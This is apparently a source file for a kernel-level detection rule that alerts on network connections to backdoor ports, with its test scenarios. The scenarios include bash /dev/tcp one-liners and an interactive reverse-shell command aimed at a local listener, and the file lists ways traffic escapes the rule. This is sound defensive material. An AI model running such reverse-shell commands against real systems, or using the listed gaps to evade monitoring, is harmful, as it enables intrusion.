"""suspicious-network: a TCP connection or a UDP datagram to a port that backdoors use."""

from ipaddress import IPv4Network, ip_network

from tetraflux.model.detection import MONITOR, ONE_BY_ONE, Detection, DetectionAlert
from tetraflux.model.kinds.base import ObjectMeta
from tetraflux.model.kinds.prometheus import Severity
from tetraflux.model.kinds.tracingpolicy import (
    Action,
    ActionName,
    ArgSelector,
    ArgType,
    Argument,
    KProbe,
    Operator,
    Selector,
    TracingPolicy,
    TracingPolicySpec,
)
from tetraflux.model.scenario import Expect, Scenario
from tetraflux.model.settings import Settings

BACKDOOR_PORTS = ("4444", "31337", "12345")

PRIVATE = (
    "127.0.0.0/8",
    "10.0.0.0/8",
    "172.16.0.0/12",
    "192.168.0.0/16",
    "100.64.0.0/10",
    "169.254.0.0/16",
    "224.0.0.0/4",
    "255.255.255.255/32",
    "::1/128",
    "fc00::/7",
    "fe80::/10",
    "ff00::/8",
)
"""Networks inside which port 8080 is an ordinary service: RFC 1918, 6598, 3927, 4193, 4291.

Multicast and broadcast do not leave the site, so they count as inside.
"""

TAGS = ("T1571", "T1095")


def declare(settings: Settings) -> Detection:
    """Hooks TCP just before the SYN is sent and UDP just before a datagram is, whatever the call.

    Both run in the context of the process that sends; packets that are forwarded, or that a tunnel
    of the cluster's network encapsulates, take other functions.
    """
    inside = _with_mapped(PRIVATE + settings.agent.cluster_cidrs)
    return Detection(
        name="suspicious-network",
        summary="A program connected to a port commonly used by backdoors",
        alert=DetectionAlert(name="TetragonSuspiciousNetwork", severity=Severity.warning),
        attack=("T1571", "T1095"),
        catches=(
            "TCP connections to 4444, 31337 and 12345 anywhere, over IPv4 and IPv6, blocking or "
            "not",
            "TCP connections to 8080 outside private networks and agent.cluster_cidrs",
            "UDP datagrams to the same ports, from connected and unconnected sockets; the same "
            "flow of a process is reported once in ten seconds",
            "the same over IPv6 sockets that carry IPv4, such as Java's",
        ),
        escapes=(
            "other ports, and protocols other than TCP and UDP",
            "packets crafted on raw sockets, and connections of programs in user-space network "
            "stacks such as gVisor's",
            "the port of a Service that a kube-proxy replacement translates at connect: the hook "
            "sees the pod's port. With kube-proxy it sees the Service's port",
        ),
        noise="proxies and development servers on port 8080 at public addresses",
        tuning=(
            "agent.cluster_cidrs: networks in which port 8080 is ordinary, in addition to the "
            "private ones",
        ),
        response=(
            "Look up the address and its owner, and find out why the program connects to it.",
            "If the program is a shell or an interpreter, treat it as a reverse shell until proven "
            "otherwise: isolate the pod with a network policy before you investigate.",
            "Search the events of other pods for the same address.",
        ),
        policies=(
            TracingPolicy(
                metadata=ObjectMeta(name="suspicious-network"),
                spec=TracingPolicySpec(
                    options=(MONITOR, ONE_BY_ONE),
                    kprobes=(
                        _hook("tcp_connect", 0, ArgType.sock, inside, "connected"),
                        _hook("ip_send_skb", 1, ArgType.skb, inside, "sent a datagram"),
                        _hook("ip6_send_skb", 0, ArgType.skb, inside, "sent a datagram"),
                    ),
                ),
            ),
        ),
    )


def _with_mapped(networks: tuple[str, ...]) -> tuple[str, ...]:
    """Those networks, and the IPv4 ones as an IPv6 socket has them (`::ffff:10.0.0.0/104`)."""
    mapped = []
    for each in networks:
        network = ip_network(each, strict=False)
        if isinstance(network, IPv4Network):
            mapped.append(f"::ffff:{network.network_address}/{96 + network.prefixlen}")
    return (*networks, *mapped)


def _hook(call: str, index: int, type_: ArgType, inside: tuple[str, ...], verb: str) -> KProbe:
    """The backdoors' ports anywhere, and 8080 outside; of packets only those of UDP."""
    udp = type_ is ArgType.skb
    protocol = (
        (ArgSelector(index=index, operator=Operator.Protocol, values=("IPPROTO_UDP",)),)
        if udp
        else ()
    )
    # A datagram per call, where TCP has one connect per connection.
    actions = (
        (Action(action=ActionName.Post, rateLimit="10s", rateLimitScope="process"),)
        if udp
        else None
    )
    return KProbe(
        call=call,
        syscall=False,
        message=f"A program {verb} to a port commonly used by backdoors",
        tags=TAGS if udp else TAGS[:1],
        args=(Argument(index=index, type=type_),),
        selectors=(
            Selector(
                matchArgs=(
                    *protocol,
                    ArgSelector(index=index, operator=Operator.DPort, values=BACKDOOR_PORTS),
                ),
                matchActions=actions,
            ),
            Selector(
                matchArgs=(
                    *protocol,
                    ArgSelector(index=index, operator=Operator.DPort, values=("8080",)),
                    ArgSelector(index=index, operator=Operator.NotDAddr, values=inside),
                ),
                matchActions=actions,
            ),
        ),
    )


def scenarios() -> tuple[Scenario, ...]:
    """Outside are the networks of documentation (RFC 5737, 3849): nobody answers there."""
    return (
        *(_tcp("127.0.0.1", port, Expect.report) for port in (4444, 31337, 12345)),
        *(_tcp("::1", port, Expect.report) for port in (4444, 31337, 12345)),
        *(_tcp("192.0.2.1", port, Expect.report) for port in (4444, 8080)),
        *(_tcp("2001:db8::1", port, Expect.report) for port in (31337, 8080)),
        *(_tcp("::ffff:192.0.2.1", port, Expect.report) for port in (12345, 8080)),
        *(_tcp(to, 8080, Expect.report, wait=False) for to in ("198.51.100.7", "2001:db8::7")),
        *(_tcp(to, 4444, Expect.report, wait=False) for to in ("127.0.0.1", "::1")),
        *(_udp("127.0.0.1", port, Expect.report) for port in (4444, 31337, 12345)),
        *(_udp("::1", port, Expect.report) for port in (4444, 31337, 12345)),
        *(_udp(to, 8080, Expect.report) for to in ("192.0.2.1", "2001:db8::1")),
        _udp("::ffff:192.0.2.1", 8080, Expect.report),
        *(_udp(to, 4444, Expect.report, connected=True) for to in ("127.0.0.1", "::1")),
        *(_udp(to, 8080, Expect.report, connected=True) for to in ("192.0.2.1", "2001:db8::1")),
        Scenario(
            name="TCP to 127.0.0.1 port 4444 by bash",
            expect=Expect.report,
            sh="timeout 2 bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444' || true",
        ),
        Scenario(
            name="UDP to 127.0.0.1 port 31337 by bash",
            expect=Expect.report,
            sh="timeout 2 bash -c 'echo x >/dev/udp/127.0.0.1/31337' || true",
        ),
        Scenario(
            name="a reverse shell to 127.0.0.1 port 4444 that gets its listener",
            expect=Expect.report,
            python="""\
import socket, subprocess
listener = socket.create_server(("127.0.0.1", 4444))
to = "3<>/dev/tcp/127.0.0.1/4444 <&3 >&3 2>&3"
shell = subprocess.Popen(["bash", "-c", f"HISTFILE=/dev/null exec bash --norc -i {to}"])
peer, _ = listener.accept()
peer.sendall(b"exit\\n")
shell.wait(10)
""",
        ),
        *(_tcp("127.0.0.1", p, Expect.silence) for p in (44444, 444, 4443, 8081, 18080, 3133, 80)),
        *(
            _tcp(to, 8080, Expect.silence)
            for to in (
                "127.0.0.1",
                "10.96.0.10",
                "172.20.0.1",
                "192.168.1.1",
                "100.64.1.1",
                "::1",
                "fd00::15",
                "::ffff:10.96.0.10",
                "::ffff:127.0.0.1",
            )
        ),
        *(_udp("127.0.0.1", port, Expect.silence) for port in (44444, 8081, 53, 8080)),
        *(_udp(to, 8080, Expect.silence) for to in ("10.96.0.10", "::ffff:10.96.0.10", "::1")),
        Scenario(
            name="listening on 4444 and 8080, TCP and UDP, and being connected to",
            expect=Expect.silence,
            python="""\
import socket
for port in (4444, 8080, 31337):
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", port))
    listener.listen()
    listener.close()
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.1", port))
    datagrams.close()
""",
        ),
        Scenario(
            name="source ports 4444 and 8080, TCP and UDP",
            expect=Expect.silence,
            python="""\
import socket
listener = socket.create_server(("127.0.0.1", 0))
for port in (4444, 8080):
    client = socket.socket()
    client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    client.bind(("127.0.0.2", port))
    client.connect(listener.getsockname())
    client.close()
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.2", port))
    datagrams.sendto(b"x", ("127.0.0.1", 5353))
""",
        ),
    )


_FAMILY = 'family = socket.AF_INET6 if ":" in to else socket.AF_INET\n'
_NO_ROUTE = """\
except OSError as error:
    if error.errno in (errno.ENETUNREACH, errno.EADDRNOTAVAIL, errno.EAFNOSUPPORT):
        print(f"no way to {to}: {error}")
        raise SystemExit(77)
"""


def _tcp(to: str, port: int, expect: Expect, wait: bool = True) -> Scenario:
    """A connect that nobody need answer, blocking or not."""
    how = (
        's.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 1, 0))'
        if wait
        else "s.setblocking(False)"
    )
    return Scenario(
        name=f"TCP to {to} port {port}" + ("" if wait else ", without blocking"),
        expect=expect,
        canary=("tcp_connect",) if (to, port) == ("127.0.0.1", 4444) else (),
        python=f'import errno, socket, struct\nto = "{to}"\n{_FAMILY}'
        f"s = socket.socket(family)\n{how}\n"
        f"try:\n    s.connect((to, {port}))\n{_NO_ROUTE}",
    )


def _udp(to: str, port: int, expect: Expect, connected: bool = False) -> Scenario:
    """One datagram, by sendto or by connect and send."""
    send = (
        f's.connect((to, {port}))\n    s.send(b"x")'
        if connected
        else (f's.sendto(b"x", (to, {port}))')
    )
    return Scenario(
        name=f"UDP to {to} port {port}" + (", by a connected socket" if connected else ""),
        expect=expect,
        canary={"127.0.0.1": ("ip_send_skb",), "::1": ("ip6_send_skb",)}.get(to, ())
        if port == 4444
        else (),
        python=f'import errno, socket\nto = "{to}"\n{_FAMILY}'
        f"s = socket.socket(family, socket.SOCK_DGRAM)\ntry:\n    {send}\n{_NO_ROUTE}",
    )
